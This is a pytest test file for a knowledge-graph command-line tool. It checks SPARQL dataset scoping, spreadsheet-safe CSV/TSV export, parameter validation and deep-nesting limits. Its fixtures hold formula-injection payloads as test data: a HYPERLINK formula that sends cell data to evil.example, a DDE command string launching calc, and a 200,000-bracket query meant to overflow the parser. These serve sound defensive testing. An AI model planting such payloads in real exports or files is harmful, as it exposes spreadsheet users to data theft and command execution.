"""kg query and kg analyze against hostile input (issue 19): a query's own dataset, spreadsheet-safe CSV,
-p values that are not terms, and nesting deep enough to overflow the parser."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import pytest
from typer.testing import CliRunner

from kg.cli import app
from kg.rdf.sparql import check_nesting, check_param_value, spreadsheet_safe

COUNT = "SELECT (COUNT(*) AS ?n) {from} WHERE {{ ?s ?p ?o }}"


def kg(*args: str):
    result = CliRunner().invoke(app, list(args))
    return result.exit_code, result.output


def number(output: str) -> int:
    return int(output.split()[-1])


@pytest.mark.parametrize("where", ["store", "graph"])
def test_query_from_names_the_dataset(tmp_path, disk_store, mem_store, where):
    """FROM / FROM NAMED are honoured by kg query (the union only when the query names no dataset)."""
    source = ["--store", str(disk_store)]
    if where == "graph":
        (tmp_path / "g.trig").write_bytes(mem_store.export("trig"))
        source = ["--graph", str(tmp_path / "g.trig")]
    graphs = sorted(g for g, _ in mem_store.documents().values())

    def count(dataset: str) -> int:
        code, out = kg("query", COUNT.format(**{"from": dataset}), *source, "--format", "csv")
        assert code == 0, out
        return number(out)

    everything, first = count(""), count(f"FROM <{graphs[0]}>")
    assert 0 < first < everything
    assert count(f"FROM <{graphs[0]}> FROM <{graphs[1]}>") == first + count(f"FROM <{graphs[1]}>")
    assert count("FROM <http://e/no-such-graph>") == 0
    code, out = kg("query", f"SELECT (COUNT(*) AS ?n) FROM NAMED <{graphs[0]}> WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }}",
                   *source, "--format", "csv")
    assert code == 0 and number(out) == first


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tleading tab", "\rleading return", "Kabul", "-5", "+3.25", "1e5", "two\rlines"]
SAFE = ["'" + HOSTILE[0], "'" + HOSTILE[1], "'-2+3", "'@SUM(A1:A9)", "'\tleading tab", "'\rleading return",
        "Kabul", "-5", "+3.25", "1e5", "two\rlines"]


@pytest.fixture
def hostile_graph(tmp_path):
    lines = [f'<http://e/x{i:02d}> <http://www.w3.org/2000/01/rdf-schema#label> "{text}" .'
             for i, text in enumerate(t.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
                                      .replace("\r", "\\r") for t in HOSTILE)]
    path = tmp_path / "hostile.nt"
    path.write_text("\n".join(lines) + "\n")
    return path


@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_query_csv_is_spreadsheet_safe(hostile_graph, fmt, delimiter):
    q = "SELECT ?l WHERE { ?s <http://www.w3.org/2000/01/rdf-schema#label> ?l } ORDER BY ?s"
    code, out = kg("query", q, "--graph", str(hostile_graph), "--format", fmt)
    assert code == 0, out
    cells = [r[0] for r in csv.reader(io.StringIO(out, newline=""), delimiter=delimiter) if r][1:]
    assert cells == SAFE
    code, out = kg("query", q, "--graph", str(hostile_graph), "--format", fmt, "--raw-csv")
    assert [r[0] for r in csv.reader(io.StringIO(out, newline=""), delimiter=delimiter) if r][1:] == HOSTILE


def test_analyze_edges_csv_is_spreadsheet_safe(tmp_path, mem_store):
    evidence = "Washington accused Islamabad of sheltering militants."
    trig = mem_store.export("trig").decode().replace(evidence, "=cmd|' /C calc'!A0 " + evidence)
    (tmp_path / "g.trig").write_text(trig)
    for raw, expected in ((False, "'=cmd|"), (True, "=cmd|")):
        out = tmp_path / f"edges{raw}.csv"
        code, text = kg("analyze", "--graph", str(tmp_path / "g.trig"), "--edges-csv", str(out),
                        *(["--raw-csv"] if raw else []))
        assert code == 0, text
        rows = list(csv.DictReader(io.StringIO(out.read_text())))
        texts = [r for r in rows if evidence in r["evidence"]]
        assert texts and all(r["evidence"].startswith(expected) for r in texts)
        assert all(not r["evidence"].startswith(("=", "+", "@")) for r in rows if not raw)


@pytest.mark.parametrize("cell, safe", list(zip(HOSTILE, SAFE, strict=True)) + [(3, 3), ("", "")])
def test_sparql_spreadsheet_safe(cell, safe):
    assert spreadsheet_safe(cell) == safe


@pytest.mark.parametrize("args, message", [
    (["-p", "x", "<http://a b>"], "invalid value for -p x '<http://a b>'"),
    (["-p", "x", "<not an iri"], "invalid value for -p x '<not an iri'"),
    (["-p", "x", "<relative>"], "invalid value for -p x '<relative>'"),
    (["-p", "x", "http://a\"b"], "invalid value for -p x"),
    (["-p", "x", "2019-13-01"], "invalid value for -p x '2019-13-01'; valid: a calendar date"),
    (["-p", "1x", "a"], "invalid parameter name '1x'"),
])
def test_query_param_that_is_not_a_term_is_exit_2(graph_file, args, message):
    code, out = kg("query", "SELECT ?x WHERE { ?x ?p ?o } LIMIT 1", "--graph", str(graph_file), *args)
    assert code == 2, out
    assert message in out and "Traceback" not in out and len(out.strip().splitlines()) == 1


@pytest.mark.parametrize("value", ["2019-13-01", "2019-02-30", "last week"])
def test_query_named_query_date_param_is_checked(graph_file, value):
    code, out = kg("query", "events", "--graph", str(graph_file), "-p", "from", value)
    assert code == 2 and "-p from" in out and len(out.strip().splitlines()) == 1, out


@pytest.mark.parametrize("value, kind", [("<http://e/x>", None), ("https://w3id.org/geokg/id/state/PAK", "entity"),
                                         ("2019-02-28", "date"), ("Pakistan", "entity"), ("-3", "integer"),
                                         ("<urn:uuid:1234>", None), ("=text", None)])
def test_sparql_valid_param_values_pass(value, kind):
    check_param_value("x", value, kind)


def test_query_deep_nesting_is_one_line_not_a_segfault(tmp_path, graph_file):
    deep = tmp_path / "deep.rq"
    deep.write_text("SELECT * WHERE " + "{" * 200_000 + "}" * 200_000)
    run = subprocess.run([sys.executable, "-m", "kg", "query", str(deep), "--graph", str(graph_file)],
                         capture_output=True, text=True, timeout=120)
    assert run.returncode == 2, (run.returncode, run.stderr[-500:])  # an invalid QUERY: a usage mistake
    assert "nested too deeply" in run.stderr and len(run.stderr.strip().splitlines()) == 1


def test_sparql_nesting_limit_counts_brackets_not_strings():
    check_nesting("SELECT * WHERE { ?s ?p '" + "{" * 500 + "' }")
    check_nesting("SELECT * WHERE " + "{" * 100 + "}" * 100)
    with pytest.raises(Exception, match="nested too deeply"):
        check_nesting("SELECT * WHERE { FILTER(" + "(" * 101 + "1" + ")" * 101 + ") }")


def test_query_deep_nesting_in_the_python_api_is_an_error(mem_store):
    from kg.errors import QueryError
    from kg.rdf.query import run_query

    with pytest.raises(QueryError, match="nested too deeply"):
        run_query(mem_store, "SELECT * WHERE " + "{" * 200_000 + "}" * 200_000)


def test_query_named_query_boolean_param_is_checked(graph_file):
    code, out = kg("query", "dyad-timeline", "--graph", str(graph_file), "-p", "a", "India", "-p", "b", "Pakistan",
                   "-p", "rollup", "maybe")
    assert code == 2, out
    assert "invalid value for -p rollup 'maybe'; valid: true or false" in out and len(out.strip().splitlines()) == 1
